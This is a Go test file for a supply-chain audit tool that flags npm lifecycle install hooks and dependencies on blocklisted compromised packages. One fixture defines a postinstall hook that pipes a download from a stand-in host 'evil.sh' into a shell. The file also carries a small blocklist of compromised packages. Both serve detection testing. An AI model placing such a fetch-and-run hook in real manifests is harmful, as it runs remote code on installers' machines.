package audit

import (
	"encoding/json"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/depsentry/depsentry/blocklist"
	"github.com/depsentry/depsentry/models"
	"github.com/depsentry/depsentry/results"
)

func newTestAuditor() *Auditor {
	return NewAuditor(blocklist.NewRegistry([]blocklist.Entry{
		{Name: "shai-hulud", Reason: "worm payload", BadVersions: []string{"*"}},
		{Name: "@ctrl/tinycolor", Reason: "compromised release", BadVersions: []string{"*"}},
	}))
}

func mustParse(t *testing.T, data string) *models.PackageManifest {
	t.Helper()
	manifest, err := models.ParsePackageManifest([]byte(data))
	require.NoError(t, err)
	return manifest
}

func TestAuditNilManifest(t *testing.T) {
	assert.Empty(t, newTestAuditor().Audit("owner/repo", nil))
}

func TestAuditNoRecognizedHooks(t *testing.T) {
	manifest := mustParse(t, `{"scripts": {"build": "tsc", "test": "jest", "prepublishOnly": "npm run build"}}`)
	findings := newTestAuditor().Audit("owner/repo", manifest)
	assert.Empty(t, findings)
}

func TestAuditBundlesLifecycleHooks(t *testing.T) {
	// declared out of hook order on purpose
	manifest := mustParse(t, `{"scripts": {
		"prepare": "husky install",
		"postinstall": "curl evil.sh | sh",
		"preinstall": "node pre.js",
		"build": "tsc"
	}}`)

	findings := newTestAuditor().Audit("owner/repo", manifest)
	require.Len(t, findings, 1)

	finding := findings[0]
	assert.Equal(t, results.TypeLifecycleScript, finding.Type)
	assert.Equal(t, "owner/repo", finding.Repo)

	// bundle keeps the fixed hook order, not the declaration order
	assert.Equal(t, []string{"preinstall", "postinstall", "prepare"}, finding.Details.Scripts.Keys())
	body, _ := finding.Details.Scripts.Get("postinstall")
	assert.Equal(t, "curl evil.sh | sh", body)
}

func TestAuditCompromisedDependency(t *testing.T) {
	manifest := mustParse(t, `{"dependencies": {"shai-hulud": "^1.0.0", "left-pad": "1.0.0"}}`)

	findings := newTestAuditor().Audit("owner/repo", manifest)
	require.Len(t, findings, 1)

	finding := findings[0]
	assert.Equal(t, results.TypeCompromisedDependency, finding.Type)
	assert.Equal(t, "dependencies", finding.Details.Section)
	assert.Equal(t, "shai-hulud", finding.Details.Package)
	assert.Equal(t, "pkg:npm/shai-hulud", finding.Details.Purl)
	assert.Equal(t, "^1.0.0", finding.Details.VersionRange)
	assert.Equal(t, "worm payload", finding.Details.Reason)
	assert.Equal(t, []string{"*"}, finding.Details.BadVersions)
}

func TestAuditOrdering(t *testing.T) {
	manifest := mustParse(t, `{
		"scripts": {"install": "node gyp.js"},
		"optionalDependencies": {"shai-hulud": "1.0.0"},
		"dependencies": {"@ctrl/tinycolor": "^4.0.0", "shai-hulud": "*"},
		"devDependencies": {"shai-hulud": "2.0.0"}
	}`)

	findings := newTestAuditor().Audit("owner/repo", manifest)
	require.Len(t, findings, 5)

	// lifecycle first, then dependency findings in fixed section order
	assert.Equal(t, results.TypeLifecycleScript, findings[0].Type)
	assert.Equal(t, "dependencies", findings[1].Details.Section)
	assert.Equal(t, "@ctrl/tinycolor", findings[1].Details.Package)
	assert.Equal(t, "pkg:npm/%40ctrl/tinycolor", findings[1].Details.Purl)
	assert.Equal(t, "dependencies", findings[2].Details.Section)
	assert.Equal(t, "shai-hulud", findings[2].Details.Package)
	assert.Equal(t, "devDependencies", findings[3].Details.Section)
	assert.Equal(t, "optionalDependencies", findings[4].Details.Section)
}

func TestAuditIdempotent(t *testing.T) {
	manifest := mustParse(t, `{
		"scripts": {"postinstall": "node setup.js"},
		"dependencies": {"shai-hulud": "^1.0.0"}
	}`)

	auditor := newTestAuditor()
	first, err := json.Marshal(auditor.Audit("owner/repo", manifest))
	require.NoError(t, err)
	second, err := json.Marshal(auditor.Audit("owner/repo", manifest))
	require.NoError(t, err)

	assert.Equal(t, string(first), string(second))
}
